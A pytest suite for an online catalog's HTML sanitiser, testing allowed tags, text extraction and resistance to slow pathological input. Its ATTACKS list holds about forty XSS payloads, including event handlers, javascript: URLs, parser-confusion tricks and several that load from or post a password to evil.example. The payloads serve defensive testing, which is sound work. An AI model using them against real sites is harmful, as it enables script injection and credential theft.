from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from catalog.richtext import TAGS, plain, sanitised

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p class='messages' id='cart-link'>x</p>",
    "<p title='' lang=x>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://x' onmouseover='alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<p hx-get='/account/' hx-trigger=load>x</p>",
    "<div hx-on:load=alert(1)>x</div>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>@import 'https://evil.example';</style>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><style><script>alert(1)</script></style></select>",
    "<\0script>alert(1)</script>",
    "<h1/onclick=alert(1)>x</h1>",
    "<div/style=x/onclick=alert(1)>x</div>",
    "<a href='https://x\" onclick=\"alert(1)'>x</a>",
]


def is_harmless(html: str) -> bool:
    """Only allowed tags, with no attribute but a link's and a cell's."""
    rest = re.sub(
        r'<a(?: href="(?!\s*(?:javascript|data|vbscript))[^"<]*")? rel="nofollow noopener">|</a>'
        r'|<t[dh](?: (?:col|row)span="[^"<]*")*>|</?(?:' + "|".join(TAGS) + ")>",
        "",
        html,
    )
    return "<" not in rest


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "<p>before</p>{}<p>after</p>", "<table><tr><td>{}</td></tr></table>"])
def test_nothing_that_acts_gets_through(attack: str, around: str) -> None:
    stored = sanitised(around.format(attack))
    assert is_harmless(stored), stored
    assert sanitised(stored) == stored


def test_what_merchants_write_stays() -> None:
    html = (
        "<h2>Care</h2><p>Wash <strong>cold</strong>, <em>gently</em>.<br>Or <s>never</s>.</p>"
        '<ul><li>Cotton</li></ul><table><tbody><tr><th>Size</th><td colspan="2">M</td></tr></tbody></table>'
        '<blockquote>Soft.</blockquote><p><a href="https://example.com/" rel="nofollow noopener">More</a> '
        '<a href="mailto:shop@example.com" rel="nofollow noopener">Ask</a> '
        '<a href="/categories/kitchen/" rel="nofollow noopener">Kitchen</a></p>'
    )
    assert sanitised(html) == html


@pytest.mark.parametrize(
    ("written", "stored"),
    [
        ("", ""),
        ("  \n ", ""),
        ("One line.", "<p>One line.</p>"),
        ("One.\r\n\r\nTwo,\nbroken.", "<p>One.</p>\n<p>Two,<br>broken.</p>"),
        ("5 < 6 & 7 > 3", "<p>5 &lt; 6 &amp; 7 &gt; 3</p>"),
        ("Fish &amp; chips", "<p>Fish &amp; chips</p>"),
        ("I <3 mugs", "<p>I &lt;3 mugs</p>"),
        ("<div><p>Hello</p></div>", "<p>Hello</p>"),
        ("<div>One</div><div>Two</div>", "<p>One</p><p>Two</p>"),
        ("<h1 class='x'>Title</h1><h6>Small</h6>", "<h2>Title</h2><h4>Small</h4>"),
        ("<p></p><p>&nbsp;</p><p><br></p><p>x</p>", "<p>x</p>"),
        ("<span style='color:red'>red</span>", "<p>red</p>"),
        ("<img src='https://x/y.png' alt='A mug'>x", "<p>x</p>"),
        ("<p>open", "<p>open</p>"),
        ("One\n\n<b>two</b>\nthree", "<p>One</p>\n<p><b>two</b><br>three</p>"),
        ("A <b>bold\n\nmove</b>", "<p>A <b>bold</b></p><b>\n</b><p><b>move</b></p>"),
        ("<li>loose</li>", "<li>loose</li>"),
    ],
)
def test_other_ways_of_writing_are_understood(written: str, stored: str) -> None:
    assert sanitised(written) == stored


@given(
    st.text()
    | st.lists(st.sampled_from([*ATTACKS, "<p>", "</div>", "<div>", "<td>", "text", "<", "&", '"'])).map("".join)
)
def test_whatever_is_sent_the_second_cleaning_finds_nothing(text: str) -> None:
    stored = sanitised(text)
    assert is_harmless(stored), stored
    assert sanitised(stored) == stored


@pytest.mark.parametrize(
    ("html", "length", "text"),
    [
        ("", 20, ""),
        ("<p>One.</p><p>Two &amp; <b>th</b>ree.</p>", 99, "One. Two & three."),
        ("<ul><li>a</li><li>b</li></ul>c<br>d", 99, "a b c d"),
        ("<p>Round enough to warm both hands.</p>", 20, "Round enough to…"),
        ("<p>Round enough, to warm</p>", 14, "Round enough…"),
        ("<p>" + "x" * 50 + "</p>", 10, "x" * 9 + "…"),
    ],
)
def test_the_words_alone(html: str, length: int, text: str) -> None:
    assert plain(html, length) == text
    assert len(plain(html, length)) <= length


@pytest.mark.parametrize(
    "text",
    ["<b>" * 16_000, "<div>" * 10_000, "<a" * 25_000, "<ul><li>" * 6_000, "\n" + " " * 49_000 + "x", "&" * 50_000],
    ids=["nested", "div", "open", "list", "space", "amp"],
)
def test_long_nonsense_is_cleaned_at_once(text: str) -> None:
    started = time.process_time()
    plain(sanitised(text), 155)
    assert time.process_time() - started < 3
